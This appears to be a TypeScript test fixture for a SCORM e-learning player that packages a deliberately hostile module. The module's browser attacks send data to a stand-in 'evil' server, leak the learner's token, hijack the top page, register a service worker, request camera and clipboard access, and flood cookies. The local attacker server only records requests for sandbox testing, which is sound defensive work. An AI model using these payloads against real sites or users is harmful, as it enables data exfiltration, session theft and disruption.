import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import { scorm12, type Files } from './training-packages.ts';

/**
 * What a hostile module tries, by name. Each gets the places of `Targets`; an error that a browser throws is its
 * result.
 */
const attacks = `
const connect = async (Connection, stun) => {
  const one = new Connection({ iceServers: [{ urls: 'stun:' + stun }] });
  one.createDataChannel('out');
  await one.setLocalDescription(await one.createOffer());
  await new Promise((resolve) => {
    one.onicegatheringstatechange = () => one.iceGatheringState === 'complete' && resolve();
  });
  return 'open';
};
const add = (tag, set, to = document.body) => {
  const one = Object.assign(document.createElement(tag), set);
  to.append(one);
  return one;
};
const framed = (src) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.onload = () => resolve(frame);
  frame.src = src;
  document.body.append(frame);
});
const code = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const pressed = (set) => add('a', { textContent: 'x', ...set }).click();
const form = (set) => add('form', { method: 'post', ...set }).submit();
window.attacks = {
  // The pages around.
  readTop: () => top.location.href,
  writeTop: () => void top.document.body.append('hacked'),
  navigateTop: ({ evil }) => { top.location = evil + '/top'; },
  linkTop: ({ evil }) => pressed({ href: evil + '/link-top', target: '_top' }),
  formTop: ({ evil }) => form({ action: evil + '/form-top', target: '_top' }),
  closeTop: () => top.close(),
  historyTop: () => { history.pushState(null, '', '#1'); history.go(-5); },
  messageTop: ({ token }) => top.postMessage({ type: 'signed-in', token }, '*'),
  opener: () => top.opener,
  // Whoever can write into a page around has it act with its own rights.
  clickInTop: ({ evil }) => {
    const link = top.document.createElement('a');
    link.href = evil + '/click-in-top';
    top.document.body.append(link);
    link.click();
  },
  clickInParent: ({ evil }) => {
    const link = parent.document.createElement('a');
    link.href = evil + '/click-in-parent';
    link.target = '_top';
    parent.document.body.append(link);
    link.click();
  },
  navigateParent: ({ evil }) => { parent.location = evil + '/parent'; },
  domain: () => { document.domain = document.domain; return 'set'; },
  // Windows and files.
  popup: ({ evil }) => window.open(evil + '/popup'),
  popupOfApp: ({ app }) => window.open(app + '/'),
  linkBlank: ({ evil }) => pressed({ href: evil + '/link-blank', target: '_blank' }),
  linkWithKeys: ({ evil }) => {
    const link = add('a', { textContent: 'x', href: evil + '/keys' });
    for (const keys of [{ ctrlKey: true }, { metaKey: true }, { shiftKey: true }, { button: 1 }])
      for (const type of ['click', 'auxclick']) link.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, ...keys }));
  },
  download: () => pressed({ href: URL.createObjectURL(new Blob(['x'])), download: 'invoice.exe' }),
  modal: () => confirm('Your password?'),
  // The app and its API.
  call: async ({ app, token }) =>
    (await fetch(app + '/api/2.0/user', { headers: { Authorization: 'api ' + token } })).status,
  frameApp: async ({ app }) => (await framed(app + '/')).contentWindow.document.title,
  // Other servers.
  fetch: ({ evil }) => fetch(evil + '/fetch', { mode: 'no-cors', method: 'POST', body: 'x' }),
  beacon: ({ evil }) => navigator.sendBeacon(evil + '/beacon', 'x'),
  socket: ({ evil }) => new Promise((resolve) => {
    new WebSocket(evil.replace('http', 'ws') + '/socket').onerror = () => resolve('error');
  }),
  events: ({ evil }) => void new EventSource(evil + '/events'),
  transport: ({ evil }) => new WebTransport(evil.replace('http:', 'https:') + '/transport').ready.then(() => 'open'),
  image: ({ evil }) => void (new Image().src = evil + '/image'),
  script: ({ evil }) => void add('script', { src: evil + '/script' }),
  module: ({ evil }) => import(evil + '/module'),
  video: ({ evil }) => void add('video', { src: evil + '/video', poster: evil + '/poster' }),
  object: ({ evil }) => void add('object', { data: evil + '/object' }),
  embed: ({ evil }) => void add('embed', { src: evil + '/embed' }),
  style: ({ evil }) => void add('style', {
    textContent: '@import url(' + evil + '/import);@font-face{font-family:f;src:url(' + evil + '/font)}' +
      'body{background:url(' + evil + '/css);font-family:f}',
  }),
  svg: ({ evil }) => {
    document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + evil + '/svg"/><use href="' + evil + '/use#x"/></svg>');
  },
  inputImage: ({ evil }) => void add('input', { type: 'image', src: evil + '/input' }),
  frame: ({ evil }) => void add('iframe', { src: evil + '/frame' }),
  frameInFrame: ({ evil }) => void add('iframe', { srcdoc: '<img src="' + evil + '/srcdoc">' }),
  blank: ({ evil }) => add('iframe', {}).contentWindow.fetch(evil + '/blank', { mode: 'no-cors' }),
  form: ({ evil }) => form({ action: evil + '/form', target: add('iframe', { name: 'sink' }).name }),
  ping: ({ evil }) => pressed({ href: '#here', ping: evil + '/ping' }),
  refresh: ({ evil }) =>
    void add('iframe', { srcdoc: '<meta http-equiv="refresh" content="0;url=' + evil + '/refresh">' }),
  prefetch: ({ evil }) => {
    for (const rel of ['prefetch', 'prerender', 'modulepreload', 'stylesheet', 'manifest', 'icon'])
      add('link', { rel, href: evil + '/' + rel }, document.head);
    add('link', { rel: 'preload', as: 'fetch', href: evil + '/preload' }, document.head);
  },
  speculation: ({ evil }) => {
    for (const kind of ['prefetch', 'prerender'])
      add('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({ [kind]: [{ source: 'list', urls: [evil + '/spec-' + kind], eagerness: 'immediate' }] }),
      }, document.head);
  },
  worker: ({ evil }) => new Promise((resolve) => {
    const worker = new Worker(code('fetch("' + evil + '/worker",{mode:"no-cors"}).then(()=>postMessage("sent"),()=>postMessage("refused"))'));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve('refused');
  }),
  importScripts: ({ evil }) => new Promise((resolve) => {
    const worker = new Worker(code('try{importScripts("' + evil + '/import-scripts")}catch(e){postMessage(e.name)}'));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve('refused');
  }),
  // Documents of this origin that might have no policy: refusals, and files that are no pages.
  bare: async ({ evil }) => {
    const sent = [];
    for (const path of ['/nowhere', '/%zz', '/player/player.js', '/player/closed', '/lrs/about', '/?' + 'x'.repeat(20000)]) {
      const frame = await framed(path);
      try {
        await frame.contentWindow.fetch(evil + '/bare?' + encodeURIComponent(path.slice(0, 20)), { mode: 'no-cors' });
        sent.push(path.slice(0, 20));
      } catch {}
    }
    return sent;
  },
  // A worker of its own could answer with pages that have no policy.
  serviceWorker: async () => {
    const { scope } = await navigator.serviceWorker.register('hostile-worker.js');
    return scope;
  },
  // Itself, at last.
  navigateSelf: ({ evil }) => { location.href = evil + '/self'; },
  // The device.
  fullscreen: () => document.body.requestFullscreen().then(() => 'full'),
  features: () => document.featurePolicy.allowedFeatures(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => 'seen'),
  screen: () => navigator.mediaDevices.getDisplayMedia().then(() => 'seen'),
  clipboardRead: () => navigator.clipboard.readText(),
  clipboardWrite: () => navigator.clipboard.writeText('x').then(() => 'written'),
  place: () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('here'), (e) => resolve('refused ' + e.code))),
  notify: () => Notification.requestPermission(),
  pointer: () => document.body.requestPointerLock(),
  webrtc: ({ stun }) => connect(RTCPeerConnection, stun),
  // A new frame has constructors that nobody could have taken away.
  webrtcInFrame: ({ stun }) => connect(add('iframe', {}).contentWindow.RTCPeerConnection, stun),
  // What other modules keep.
  leave: async () => {
    localStorage.setItem('left', 'behind');
    document.cookie = 'left=behind;path=/';
    await new Promise((resolve) => { indexedDB.open('left').onsuccess = resolve; });
    await caches.open('left');
    return [localStorage.length, document.cookie];
  },
  find: async () => ({
    local: localStorage.getItem('left'),
    cookie: document.cookie,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations().catch(() => [])).length,
  }),
  bomb: () => {
    for (let at = 0; at < 60; at += 1) document.cookie = 'bomb' + at + '=' + 'x'.repeat(4000) + ';path=/;max-age=99999';
  },
  loop: () => void setTimeout(() => { for (;;); }, 0),
};
window.attack = async (name, targets) => {
  // This one opens six pages; others may never end.
  const patience = name === 'bare' ? 60_000 : 5000;
  try {
    const result = await Promise.race([
      window.attacks[name](targets),
      new Promise((resolve) => setTimeout(() => resolve('nothing happened'), patience)),
    ]);
    return result instanceof Window || (typeof result === 'object' && result !== null && 'closed' in result) ? 'a window' : result;
  } catch (error) {
    return error.name;
  }
};
document.body.dataset.place = 'ready';
`;

/** Attacks that navigate a page. Those that leave their frame need a new page each. */
export const navigatingAttacks = [
  'navigateTop',
  'linkTop',
  'formTop',
  'closeTop',
  'historyTop',
  'linkWithKeys',
  'clickInTop',
  'clickInParent',
  'navigateParent',
  'navigateSelf',
];
/** Attacks that send something. */
export const sendingAttacks = [
  'fetch',
  'beacon',
  'socket',
  'events',
  'transport',
  'image',
  'script',
  'module',
  'video',
  'object',
  'embed',
  'style',
  'svg',
  'inputImage',
  'frame',
  'frameInFrame',
  'blank',
  'form',
  'ping',
  'refresh',
  'prefetch',
  'speculation',
  'worker',
  'importScripts',
  'bare',
];

/** Targets of a hostile module. */
export interface Targets {
  app: string;
  /** Origin of a server of the attacker. */
  evil: string;
  /** Host and port of a STUN server of the attacker. */
  stun: string;
  /** The learner's token. */
  token: string;
}

/** A SCORM 1.2 package that attacks whatever it can reach. */
export function hostileModule(title = 'Hostile'): Files {
  return {
    ...scorm12({ title }),
    'content/talk.js': attacks,
    'content/hostile-worker.js':
      'self.onfetch = (event) => event.respondWith(new Response("<p>mine", { headers: { "Content-Type": "text/html" } }));',
  };
}

/** The attacker's servers and the requests that they received. */
export interface Attacker extends AsyncDisposable {
  evil: string;
  stun: string;
  /** HTTP requests, upgrades included, as `GET /path`. */
  requests: string[];
  /** Sizes of packets received by the STUN port. */
  packets: number[];
}

/** Starts servers that accept everything a module sends. */
export async function attackerListens(): Promise<Attacker> {
  const requests: string[] = [];
  const packets: number[] = [];
  const http = createServer((request, response) => {
    requests.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' });
    response.end('<p>mine');
  });
  http.on('upgrade', (request, socket) => {
    requests.push(`upgrade ${request.url ?? ''}`);
    socket.destroy();
  });
  http.listen(0, '127.0.0.1');
  await once(http, 'listening');
  const udp = createSocket('udp4');
  udp.on('message', (packet) => void packets.push(packet.length));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  return {
    evil: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
    stun: `127.0.0.1:${udp.address().port}`,
    requests,
    packets,
    async [Symbol.asyncDispose]() {
      udp.close();
      http.closeAllConnections();
      http.close();
      await once(http, 'close');
    },
  };
}
